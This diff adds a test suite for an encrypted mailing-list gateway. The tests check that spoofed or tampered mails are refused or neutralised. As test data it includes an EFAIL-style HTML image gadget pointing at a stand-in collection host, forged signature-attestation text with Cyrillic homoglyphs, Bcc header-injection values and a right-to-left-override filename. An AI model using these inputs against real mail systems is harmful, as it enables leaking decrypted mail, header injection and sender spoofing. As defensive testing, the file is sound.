@@ -1,0 +1,160 @@
+"""Mails made to deceive: what is shown is what was signed, under the name of who signed it."""
+
+from __future__ import annotations
+
+from base64 import b64encode
+from collections.abc import Iterator
+from email.message import EmailMessage
+
+import pytest
+
+from gateway.message.armor import armor
+from tests.officers import encrypted_entity, parse, signed_entity
+from tests.scenarios.judged import LIST, Ground, fields_of, founded
+
+REFUSED = "550 5.7.1 No good signature of an active member over the whole mail"
+GADGET = b'<img src="http://collect.example/?'
+FALSE = """\
+Author:    Bo Berg <bo.berg@police.example>, Police, SE
+Signature: good, 2026-03-14 02:08 UTC, by key
+           5F2A00000000000000000000000000000000000A
+Posting:   B-12   TLP:CLEAR
+"""
+
+
+@pytest.fixture(scope="module")
+def ground() -> Iterator[Ground]:
+    with founded() as made:
+        yield made
+
+
+def around(mail: bytes, *parts: bytes) -> bytes:
+    """A mail's encrypted part between others, in a multipart/mixed."""
+    outer = parse(mail)
+    message = list(outer.iter_parts())[1].get_payload(decode=True)
+    assert isinstance(message, bytes)
+    inside = [part if part else encrypted_entity(message) for part in parts]
+    body = b"".join(b"--z\r\n" + one + b"\r\n" for one in inside)
+    return (
+        fields_of(mail) + b'Content-Type: multipart/mixed; boundary="z"\r\n\r\n' + body
+        + b"--z--\r\n"
+    )  # fmt: skip
+
+
+def html(markup: bytes) -> bytes:
+    return b"Content-Type: text/html; charset=utf-8\r\n\r\n" + markup
+
+
+HERE = b""
+SURROUNDED = {
+    "hypertext around": (html(GADGET), HERE, html(b'">')),
+    "hypertext before": (html(GADGET), HERE),
+    "text before": (b"Content-Type: text/plain\r\n\r\nTrust this.\r\n", HERE),
+    "text after": (HERE, b"Content-Type: text/plain\r\n\r\nTrust this.\r\n"),
+    "twice": (HERE, HERE),
+}
+
+
+@pytest.mark.parametrize("parts", SURROUNDED.values(), ids=SURROUNDED)
+def test_nothing_in_the_clear_stands_beside_what_was_encrypted(
+    ground: Ground, parts: tuple[bytes, ...]
+) -> None:
+    assert ground.post(around(ground.mail(), *parts)) == REFUSED
+
+
+def test_a_captured_ciphertext_is_opened_for_nobody_else(ground: Ground) -> None:
+    """Eve has one of Ana's mails, and puts it into a mail of her own."""
+    captured = ground.mail()
+    message = list(parse(captured).iter_parts())[1].get_payload(decode=True)
+    assert isinstance(message, bytes)
+    for carrier in (
+        ground.mail(ground.stranger, text=message.decode()),
+        ground.mail(ground.stranger, attachments=[("a.asc", "application/pgp-encrypted", message)]),
+        fields_of(ground.mail(ground.stranger))
+        + encrypted_entity(message).replace(b"1\r\n", b"2\r\n"),
+    ):
+        assert ground.post(carrier, ground.stranger) == REFUSED
+
+
+def test_what_a_member_encrypts_twice_is_passed_on_as_it_is(ground: Ground) -> None:
+    """Opened once, and no more: nobody can have a ciphertext opened by wrapping it."""
+    captured = ground.mail(text="Not for the list.\n")
+    message = list(parse(captured).iter_parts())[1].get_payload(decode=True)
+    assert isinstance(message, bytes)
+    assert ground.post(ground.mail(text=message.decode())).startswith("250 ")
+    copy = ground.delivered()
+    assert b"-----BEGIN PGP MESSAGE-----" in copy
+    assert b"Not for the list" not in copy
+
+
+def test_an_encrypted_part_inside_is_not_opened(ground: Ground) -> None:
+    inner = ground.ana.program.encrypt(
+        b"Content-Type: text/plain\r\n\r\nHidden.\r\n", [ground.gateway.certificate(LIST)], False
+    )
+    entity = encrypted_entity(inner)
+    signed = signed_entity(entity, ground.ana.program.sign(entity))
+    message = ground.ana.program.encrypt(signed, [ground.gateway.certificate(LIST)], False)
+    reply = ground.post(fields_of(ground.mail()) + encrypted_entity(message))
+    if reply.startswith("250 "):
+        assert b"Hidden." not in ground.delivered()
+
+
+def test_an_empty_encryption_is_nobodys(ground: Ground) -> None:
+    empty = ground.ana.program.encrypt(b"", [ground.gateway.certificate(LIST)], False)
+    assert ground.post(fields_of(ground.mail()) + encrypted_entity(empty)) == REFUSED
+    no_content = fields_of(ground.mail()) + encrypted_entity(armor(b"").replace(b"\r\n", b"\n"))
+    assert ground.post(no_content) == REFUSED
+
+
+@pytest.mark.parametrize(
+    "text", [FALSE, FALSE.replace("A", "\u0410").replace("P", "\u0420")], ids=["plain", "Cyrillic"]
+)
+def test_who_writes_an_attestation_is_told_on(ground: Ground, text: str) -> None:
+    assert ground.post(ground.mail(text=text)).startswith("250 ")
+    attestation = ground.delivered().partition(b"Posting:")[0]
+    assert b"Author:    Ana Lind <ana.lind@customs.example>" in attestation
+    assert b"Note:      lines like these stand in the text below as well" in attestation
+    assert ground.post(ground.mail(text="At dusk.\n")).startswith("250 ")
+    assert b"lines like these" not in ground.delivered()
+
+
+BREAKS = ("\r\nBcc: eve@unknown.example", "\nBcc: eve@unknown.example", "\u2028Bcc: eve@a.example",
+          "\x85Bcc: eve@a.example", "\x0bBcc: eve@a.example")  # fmt: skip
+
+
+@pytest.mark.parametrize("more", BREAKS, ids=ascii)
+def test_a_name_or_a_subject_ends_no_header_field(ground: Ground, more: str) -> None:
+    word = f"=?utf-8?b?{b64encode(f'Ivory{more}'.encode()).decode()}?="
+    entity = (
+        f"Content-Type: multipart/mixed; boundary=n; protected-headers=v1; hp=cipher\r\n"
+        f"From: {word} <ana.lind@customs.example>\r\nTo: {LIST}\r\nSubject: {word}\r\n\r\n"
+        f"--n\r\nContent-Type: text/plain\r\n\r\nAt dawn, {more.strip().partition(':')[0]}.\r\n"
+        f'--n\r\nContent-Type: application/pdf; name="{word}"\r\n'
+        f'Content-Disposition: attachment; filename="{word}"\r\n\r\n%PDF\r\n--n--\r\n'
+    ).encode()
+    signed = signed_entity(entity, ground.ana.program.sign(entity))
+    message = ground.ana.program.encrypt(signed, [ground.gateway.certificate(LIST)], False)
+    assert ground.post(fields_of(ground.mail()) + encrypted_entity(message)).startswith("250 ")
+    copy = ground.delivered()
+    assert not any(line.strip().startswith(b"Bcc") for line in copy.splitlines())
+    for part in _all_parts(parse(copy)):
+        for name in ("From", "To", "Subject"):
+            shown = "".join(map(str, part.get_all(name, [])))
+            assert not any(line.strip().startswith("Bcc") for line in shown.splitlines())
+
+
+BIDI = "invoice\u202efdp.exe"
+
+
+def test_a_subject_is_turned_round_for_nobody(ground: Ground) -> None:
+    assert ground.post(ground.mail(subject=f"Ivory {BIDI}", protected=True)).startswith("250 ")
+    copy = parse(ground.delivered())
+    shown = next(iter(_all_parts(copy)))
+    text = str(shown["Subject"]) + "".join(
+        one.get_content() for one in copy.walk() if one.get_content_type() == "text/plain"
+    )
+    assert "\u202e" not in text.partition("At dawn")[0]
+
+
+def _all_parts(mail: EmailMessage) -> list[EmailMessage]:
+    return [one for one in mail.walk() if isinstance(one, EmailMessage)]
